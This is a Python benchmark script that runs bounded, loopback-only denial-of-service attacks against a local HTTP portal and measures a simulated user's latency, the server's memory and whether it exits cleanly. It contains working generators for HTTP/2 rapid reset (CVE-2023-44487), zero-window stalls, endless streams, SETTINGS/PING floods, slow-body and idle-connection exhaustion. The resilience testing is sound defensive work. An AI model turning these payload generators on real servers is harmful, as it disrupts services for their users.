"""The attacks on the portal's HTTP, for ``bench/portal_attack.py --suite protocol``.

Each attack runs against a fresh ``geminibot portal --test-range`` process (capsule-server
with the bundled capsules behind it) whose descriptor limit is 1,024 (``ulimit -n``), for
``seconds``, every attacker from loopback addresses of its own (127.0.2.x and up):

- ``rapid reset``: 4 connections of HTTP/2 (prior knowledge) each opening and at once
  resetting 20,000 streams, again and again (CVE-2023-44487);
- ``zero window``: 25 addresses, each with connections that set HTTP/2's initial window
  to 0 and ask for 100 pages each, never opening the window;
- ``endless streams``: 10 addresses, up to 50 connections each, each opening 100 POST
  streams whose bodies never end;
- ``settings/ping flood``: one connection sending SETTINGS and PING frames without pause;
- ``slow bodies``: 40 addresses, 30 connections each (1,200: more than the portal's
  descriptors), each a POST of 1,000 bytes sent one byte every 5 s;
- ``idle``: 40 addresses, 30 connections each, that send nothing.

Meanwhile a person asks for a cached page four times a second (from four addresses, a new
connection each time, on a thread and event loop of its own): 5 s before the attack (the baseline), during it, and 10 s after.
Reported for each attack: the person's median and 95th percentile during the attack, the
median of the last 5 s after it (back at the baseline?), the portal's peak resident
memory during the attack (sampled 4 times a second; a portal past 1.5 GiB is killed, to
spare the machine), what it wrote on stderr and whether it stopped cleanly (SIGTERM).
Every loop is bounded in count and time; every connection is to loopback.
"""

from __future__ import annotations

import os
import platform
import signal
import statistics
import subprocess
import sys
import tempfile
import time
from collections.abc import Awaitable, Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from functools import partial
from pathlib import Path

import h2.config
import h2.connection
import h2.settings
import httpx
import trio
from loopback import free_port, wait_listening
from machine import cpu_model
from public_fixtures import rss_mib
from served_capsules import capsule_server

BIN = Path(sys.executable).parent
FILES = 1024
STARTUP_BOUND = 60.0
BASELINE = 5.0
AFTER = 10.0
#: Seconds one request of the person may take before it counts as failed (a bound).
PERSON_BOUND = 10.0
PAGE = "/gemini/va-groups.test/README.gmi"
#: A portal past this resident size is killed (the bench's own bound, in MiB).
RSS_BOUND = 1536.0
Attack = Callable[[int, float], Awaitable[None]]


@dataclass
class Timeline:
    """The person's requests: (when asked, seconds taken, status; 0: failed)."""

    asked: list[tuple[float, float, int]] = field(default_factory=list)
    rss: list[tuple[float, float]] = field(default_factory=list)  # (when, MiB)
    killed: bool = False

    def during(self, start: float, end: float) -> list[float]:
        return [t for at, t, _ in self.asked if start <= at < end]

    def failed(self, start: float, end: float) -> int:
        return sum(1 for at, _, status in self.asked if start <= at < end and status != 200)


@dataclass
class Outcome:
    attack: str
    tree: str
    baseline_p50: float
    p50: float
    p95: float
    failed: int
    asked: int
    after_p50: float
    peak_mib: float
    stderr_bytes: int
    tracebacks: int
    exit_code: int | None
    killed: bool


@contextmanager
def portal(
    src: Path | None, gemini_port: int, err: Path
) -> Iterator[tuple[int, subprocess.Popen[bytes]]]:
    """A portal process of ``src`` (None: this tree) with a descriptor limit of
    :data:`FILES`; yields (port, process)."""
    port = free_port()
    env = dict(os.environ)
    if src is not None:
        env["PYTHONPATH"] = str(src)
    argv = [str(BIN / "geminibot"), "portal", "--port", str(port), "--test-range"]
    argv += ["--connect-to", f"*.test:1965:127.0.0.1:{gemini_port}"]
    argv = ["/bin/sh", "-c", f'ulimit -n {FILES} && exec "$0" "$@"', *argv]
    with err.open("wb") as out:
        proc = subprocess.Popen(argv, stdout=subprocess.DEVNULL, stderr=out, env=env)
    try:
        wait_listening(port, proc, "geminibot portal", STARTUP_BOUND)
        yield port, proc
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait(10)


async def connect(port: int, address: str) -> trio.SocketStream | None:
    try:
        sock = trio.socket.socket()
        await sock.bind((address, 0))
        await sock.connect(("127.0.0.1", port))
        return trio.SocketStream(sock)
    except OSError:
        return None


async def drain(stream: trio.SocketStream) -> None:
    """Read and drop what the portal sends, until it closes."""
    try:
        while await stream.receive_some(65536):
            pass
    except (trio.BrokenResourceError, trio.ClosedResourceError):
        pass


def h2_bytes(
    streams: int, *, reset: bool = False, end: bool = True, window: int | None = None
) -> bytes:
    """An HTTP/2 client's preface and ``streams`` requests (GET for the page; POST with a
    body never ended when not ``end``), each reset at once with ``reset``."""
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    if window is not None:
        conn.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: window})
    conn.max_outbound_frame_size = 16384
    conn.local_settings.max_concurrent_streams = 2**31 - 1
    conn.remote_settings.max_concurrent_streams = 2**31 - 1
    method = b"GET" if end else b"POST"
    for n in range(streams):
        stream = 1 + 2 * n
        headers = [(b":method", method), (b":scheme", b"http"), (b":authority", b"p")]
        conn.send_headers(stream, [*headers, (b":path", PAGE.encode())], end_stream=end)
        if reset:
            conn.reset_stream(stream)
    return conn.data_to_send()


async def repeat_connections(
    port: int, stop: float, addresses: list[str], per_address: int, send: bytes, hold: bool
) -> None:
    """``per_address`` connections from each address, each sending ``send`` and then
    holding the connection open (``hold``) or sending it again; a closed one is opened
    again, until ``stop``."""

    async def one(address: str) -> None:
        while time.monotonic() < stop:
            stream = await connect(port, address)
            if stream is None:
                await trio.sleep(0.1)
                continue
            async with stream, trio.open_nursery() as nursery:
                nursery.start_soon(drain, stream)
                try:
                    await stream.send_all(send)
                    while not hold and time.monotonic() < stop:
                        await stream.send_all(send)
                    if hold:
                        await trio.sleep(max(0.0, stop - time.monotonic()))
                except (trio.BrokenResourceError, trio.ClosedResourceError):
                    pass
                nursery.cancel_scope.cancel()

    with trio.move_on_at(trio.current_time() + stop - time.monotonic()):
        async with trio.open_nursery() as nursery:
            for address in addresses:
                for _ in range(per_address):
                    nursery.start_soon(one, address)


def addresses(count: int, base: int = 2) -> list[str]:
    return [f"127.0.{base + i // 250}.{1 + i % 250}" for i in range(count)]


async def rapid_reset(port: int, stop: float) -> None:
    blob = h2_bytes(20_000, reset=True)
    await repeat_connections(port, stop, addresses(4), 1, blob, hold=False)


async def zero_window(port: int, stop: float) -> None:
    blob = h2_bytes(100, window=0)
    await repeat_connections(port, stop, addresses(25), 4, blob, hold=True)


async def endless_streams(port: int, stop: float) -> None:
    blob = h2_bytes(100, end=False)
    await repeat_connections(port, stop, addresses(10), 50, blob, hold=True)


async def settings_ping_flood(port: int, stop: float) -> None:
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    preface = conn.data_to_send()
    for n in range(5000):
        conn.update_settings({h2.settings.SettingCodes.ENABLE_PUSH: 0})
        conn.ping(n.to_bytes(8, "big"))
    flood = conn.data_to_send()
    await repeat_connections(port, stop, addresses(1), 1, preface + flood, hold=False)


async def slow_bodies(port: int, stop: float) -> None:
    head = b"POST /gemini/va-groups.test/ HTTP/1.1\r\nHost: p\r\nContent-Length: 1000\r\n\r\n"

    async def one(address: str) -> None:
        while time.monotonic() < stop:
            stream = await connect(port, address)
            if stream is None:
                await trio.sleep(0.1)
                continue
            async with stream:
                try:
                    await stream.send_all(head)
                    while time.monotonic() < stop:
                        await stream.send_all(b"x")
                        await trio.sleep(5.0)
                except (trio.BrokenResourceError, trio.ClosedResourceError):
                    pass

    with trio.move_on_at(trio.current_time() + stop - time.monotonic()):
        async with trio.open_nursery() as nursery:
            for address in addresses(40):
                for _ in range(30):
                    nursery.start_soon(one, address)


async def idle(port: int, stop: float) -> None:
    await repeat_connections(port, stop, addresses(40), 30, b"", hold=True)


ATTACKS: dict[str, Attack] = {
    "rapid reset": rapid_reset,
    "zero window": zero_window,
    "endless streams": endless_streams,
    "settings/ping flood": settings_ping_flood,
    "slow bodies": slow_bodies,
    "idle connections": idle,
}


async def person(port: int, stop: float, timeline: Timeline) -> None:
    """Four requests a second for the cached page, each on a new connection, from
    127.0.0.1 to .4 in turn (each within the portal's rate of 2 a second per client)."""
    clients = []
    for i in range(4):
        transport = httpx.AsyncHTTPTransport(
            local_address=f"127.0.0.{1 + i}", limits=httpx.Limits(max_keepalive_connections=0)
        )
        base = f"http://127.0.0.1:{port}"
        clients.append(httpx.AsyncClient(base_url=base, transport=transport, timeout=PERSON_BOUND))
    n = 0
    async with trio.open_nursery() as nursery:
        while time.monotonic() < stop:
            started = time.monotonic()

            async def ask(web: httpx.AsyncClient, at: float = started) -> None:
                try:
                    status = (await web.get(PAGE)).status_code
                except httpx.HTTPError:
                    status = 0
                timeline.asked.append((at, time.monotonic() - at, status))

            nursery.start_soon(ask, clients[n % 4])
            n += 1
            await trio.sleep(max(0.0, started + 0.25 - time.monotonic()))
    for web in clients:
        await web.aclose()


async def memory(proc: subprocess.Popen[bytes], stop: float, timeline: Timeline) -> None:
    while time.monotonic() < stop and proc.poll() is None:
        try:
            now = rss_mib(proc.pid)[0]
        except (OSError, KeyError):
            return
        timeline.rss.append((time.monotonic(), now))
        if now > RSS_BOUND:
            timeline.killed = True
            proc.kill()
            return
        await trio.sleep(0.25)


async def one_attack(name: str, tree: str, src: Path | None, gport: int, seconds: float) -> Outcome:
    timeline = Timeline()
    with tempfile.TemporaryDirectory() as tmp:
        err = Path(tmp) / "err"
        with portal(src, gport, err) as (port, proc):
            async with httpx.AsyncClient(base_url=f"http://127.0.0.1:{port}", timeout=30) as web:
                await web.get(PAGE)  # its policy and the page now cached
            begin = time.monotonic()
            start = begin + BASELINE
            end = start + seconds
            finish = end + AFTER
            async with trio.open_nursery() as nursery:
                # the person on a thread and event loop of its own, not queued behind the
                # attackers' thousand tasks in this one
                asking = partial(trio.run, person, port, finish, timeline)
                nursery.start_soon(partial(trio.to_thread.run_sync, asking))
                nursery.start_soon(memory, proc, finish, timeline)
                await trio.sleep(BASELINE)
                await ATTACKS[name](port, end)
            code: int | None = proc.poll()
            if code is None:
                proc.send_signal(signal.SIGTERM)
                try:
                    code = await trio.to_thread.run_sync(proc.wait, 30)
                except subprocess.TimeoutExpired:
                    code = None
        text = err.read_bytes()
    during = timeline.during(start, end) or [PERSON_BOUND]
    after = timeline.during(finish - 5.0, finish) or [PERSON_BOUND]
    peak = max((mib for at, mib in timeline.rss if start <= at < end), default=0.0)
    return Outcome(
        attack=name,
        tree=tree,
        baseline_p50=statistics.median(timeline.during(begin, start) or [0.0]),
        p50=statistics.median(during),
        p95=percentile(during, 0.95),
        failed=timeline.failed(start, end),
        asked=len(timeline.during(start, end)),
        after_p50=statistics.median(after),
        peak_mib=peak,
        stderr_bytes=len(text),
        tracebacks=text.count(b"Traceback"),
        exit_code=code,
        killed=timeline.killed,
    )


def percentile(values: list[float], q: float) -> float:
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(q * len(ordered)))]


def run_protocol_suite(
    seconds: float, old: Path | None, capsules: Path, only: list[str] | None = None
) -> None:
    trees: list[tuple[str, Path | None]] = [("this tree", None)]
    if old is not None:
        trees.append((f"old ({old.name})", old))
    outcomes = []
    with tempfile.TemporaryDirectory() as tmp, capsule_server(capsules, Path(tmp)) as gport:
        for name in only or list(ATTACKS):
            for tree, src in trees:
                outcome = trio.run(one_attack, name, tree, src, gport, seconds)
                outcomes.append(outcome)
                print(row(outcome), flush=True)
    print()
    print(f"machine: {cpu_model()}, {os.cpu_count()} cores, Python {platform.python_version()}")
    print(f"each attack {seconds:g} s against a fresh portal, ulimit -n {FILES}")
    print(HEADER)
    for outcome in outcomes:
        print(row(outcome))


HEADER = (
    "attack / tree: person's p50 and p95 during (s), failed of asked; p50 before and "
    "5-10 s after (ms); peak RSS (MiB); stderr bytes, tracebacks; exit code"
)


def row(o: Outcome) -> str:
    killed = " KILLED at the RSS bound" if o.killed else ""
    return (
        f"{o.attack} / {o.tree}: {o.p50:.3f} {o.p95:.3f}, {o.failed} of {o.asked}; "
        f"{o.baseline_p50 * 1000:.1f} -> {o.after_p50 * 1000:.1f} ms; {o.peak_mib:.0f} MiB; "
        f"{o.stderr_bytes} B, {o.tracebacks} tb; exit {o.exit_code}{killed}"
    )
